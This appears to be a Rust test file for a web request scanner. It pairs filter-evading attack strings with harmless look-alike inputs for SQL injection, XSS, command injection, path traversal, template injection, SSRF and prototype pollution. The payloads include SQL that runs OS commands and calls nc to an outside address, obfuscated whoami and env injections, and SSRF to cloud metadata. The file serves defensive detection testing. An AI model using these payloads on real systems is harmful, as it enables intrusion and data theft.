//! Attacks whose grammar the second set showed to be missing, each beside what ordinary users write
//! with the same marks.

mod common;

use common::{body_report, classes};
use sealgate_scan::Class;
use serde_json::json;

/// The class, attacks, and their harmless neighbours.
type Row = (Class, &'static [&'static str], &'static [&'static str]);

const ROWS: &[Row] = &[
    (
        Class::Sqli,
        &[
            "1; copy orders from program 'id'--",
            "x'; COPY t TO PROGRAM 'nc 10.0.0.1 80';--",
            "1; merge into roles r using dual on (1=1)",
            "5 union table accounts",
            "5' union all values(1,null)--",
            "' or 2 is not null -- ",
            "a' or 'b' is not distinct from 'b",
            "') or json_exists('{}','$') or ('",
            "7;create temporary table o(t text);copy o from program $x$id$x$",
        ],
        &[
            "please copy the table to program 'B', page 4; thanks",
            "merge; then push into main using the green button",
            "Western Union table service",
            "the union values (2, 3 and 4) matter",
            "is 1 or 2 is not true",
            "20%-off-(members)",
            "02139 --unit=f; this week?",
            "\"salt 'n' vinegar\" AND (crisps OR chips)",
            "SELECT date_trunc('hour', at) AS h, round(ms, 2) FROM calls WHERE at BETWEEN :a AND :b GROUP BY 1",
            "s$9T#Pi!q2_Z#",
            "length(Output || '') > `0`",
            "^2.1 || ~3.0",
            "Never use a query like \"SELECT a FROM b WHERE c = '\" + name + \"'\" again.",
        ],
    ),
    (
        Class::Xss,
        &["';confirm?.(1)//", "\"-alert?.(document)-\""],
        &[
            "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Ms. O'Neil &amp; son</p></div>",
            "did it alert? (yes)",
        ],
    ),
    (
        Class::Command,
        &[
            "|wh$()oami",
            "|wh``oami",
            "| for /f %a in ('id') do echo %a",
            ";tar xf a.tar --to-command=id",
            "${HOME:0:1}bin${HOME:0:1}id",
            "--use-compress-program=/tmp/id",
            "-oProxyCommand=/tmp/x",
            "$(< /etc/issue)",
            "a;env;",
            "b|ps|",
        ],
        &[
            "tsc -p . && node dist/server.js",
            "npm ci; it's for /all of us",
            "(root) CMD (test -x /usr/bin/x || ( cd / && run-parts ./daily ))",
            "${name:-guest} and ${count}",
            "region;env;tier",
            "--use-cases",
        ],
    ),
    (
        Class::Path,
        &[
            "\\\\?\\D:\\boot.ini",
            "\\\\.\\C:\\windows\\win.ini",
            "file:///d|/windows/win.ini",
        ],
        &["\\\\server\\share\\report.docx", "file:///home/a/b.txt"],
    ),
    (
        Class::Template,
        &["{{lookup this \"constructor\"}}"],
        &["{{lookup map \"title\"}}"],
    ),
    (
        Class::Ssrf,
        &[
            "http://\u{2460}\u{2461}\u{2466}.0.0.1:6379/",
            "http://169\u{3002}254\u{3002}169\u{3002}254/",
        ],
        &[
            "HTTP:80/health",
            "step \u{2460} of \u{2466}: http://example.org/\u{3002}",
        ],
    ),
    (
        Class::Prototype,
        &["constructor[prototype][role]=admin"],
        &[
            "constructor[0]=Ferrari",
            "Foo.constructor.prototype is shared",
        ],
    ),
];

#[test]
fn attacks_are_found_and_their_neighbours_pass() {
    let report = |text: &str| body_report("application/json", &json!({ "a": text }).to_string());
    let mut wrong = Vec::new();
    for (class, attacks, neighbours) in ROWS {
        let missed = attacks
            .iter()
            .filter(|text| !classes(&report(text)).contains(class));
        wrong.extend(missed.map(|text| format!("not {class}: {text}")));
        let stopped = neighbours.iter().filter(|text| !report(text).is_clean());
        wrong.extend(stopped.map(|text| format!("{:?}: {text}", classes(&report(text)))));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
